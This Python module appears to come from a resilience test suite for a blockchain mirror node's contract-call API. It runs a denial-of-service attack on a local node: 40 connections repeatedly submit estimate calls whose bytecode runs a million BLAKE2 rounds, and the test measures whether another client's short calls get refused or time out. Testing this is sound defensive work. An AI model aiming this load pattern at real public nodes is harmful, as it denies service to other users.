"""A client sends estimates by many connections, each of which runs as long as a call may.

The code takes seconds and succeeds, so that the estimate runs it again and again.
Then another client makes a short call each 100 ms.
"""

import http.client
import json
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http import HTTPStatus

from tests.attacks.attack import ATTACKER, Outcome, Target

Body = dict[str, object]

#: The node's own limit, which is longer in other tests.
SETTINGS = {"SVC_MIRROR_WEB3_REQUESTTIMEOUT": "10s"}

_CONNECTIONS, _INTERVAL_SECONDS = 40, 0.1
# Calls precompiled contract 9 for a million rounds of BLAKE2, which take seconds: PUSH4 1,000,000 PUSH1 0xe0
# SHL PUSH1 0 MSTORE PUSH1 64 PUSH1 0 PUSH1 213 PUSH1 0 PUSH1 9 GAS STATICCALL STOP.
_ROUNDS = "0x63000f424060e01b6000526040600060d5600060095afa00"
_ESTIMATE: Body = {"data": _ROUNDS, "estimate": True, "gas": 15_000_000}
_SHORT: Body = {"to": f"0x{1001:040x}", "data": "0x"}
_REFUSALS = (HTTPStatus.TOO_MANY_REQUESTS, HTTPStatus.SERVICE_UNAVAILABLE)
_MOST_REFUSED = 0.1
# How long the other client waits: less than a call may take.
_PATIENCE_SECONDS = 8.0


def attack(target: Target) -> Outcome:
    ending = threading.Event()

    def send_estimates() -> None:
        while not ending.is_set():
            _call(target, ATTACKER, _ESTIMATE, 60.0)

    def end_estimates() -> None:
        ending.wait(target.seconds)
        ending.set()

    with ThreadPoolExecutor(3 * _CONNECTIONS) as threads:
        for _ in range(_CONNECTIONS):
            threads.submit(send_estimates)
        threads.submit(end_estimates)
        # They have all processes by then.
        ending.wait(target.seconds / 6)
        calls = []
        while not ending.wait(_INTERVAL_SECONDS):
            calls.append(threads.submit(_timed_call, target))
    statuses, seconds = zip(*(call.result() for call in calls), strict=True)
    refused = sum(status in _REFUSALS for status in statuses)
    result = f"{refused} of {len(calls)} calls of another client refused or unanswered"
    effect = f"{result}, the slowest took {max(seconds):.1f} s"
    return Outcome(refused > _MOST_REFUSED * len(calls), effect)


def _timed_call(target: Target) -> tuple[int, float]:
    began = time.perf_counter()
    return _call(target, "127.0.0.1", _SHORT, _PATIENCE_SECONDS), time.perf_counter() - began


def _call(target: Target, source: str, body: Body, seconds: float) -> int:
    """Return the status of the answer; 503 also where there is none within so many seconds."""
    connection = http.client.HTTPConnection(
        "127.0.0.1", target.node.port, timeout=seconds, source_address=(source, 0)
    )
    try:
        headers = {"content-type": "application/json"}
        connection.request("POST", "/api/v1/contracts/call", json.dumps(body), headers)
        answer = connection.getresponse()
        answer.read()
        return answer.status
    except OSError:
        return HTTPStatus.SERVICE_UNAVAILABLE
    finally:
        connection.close()
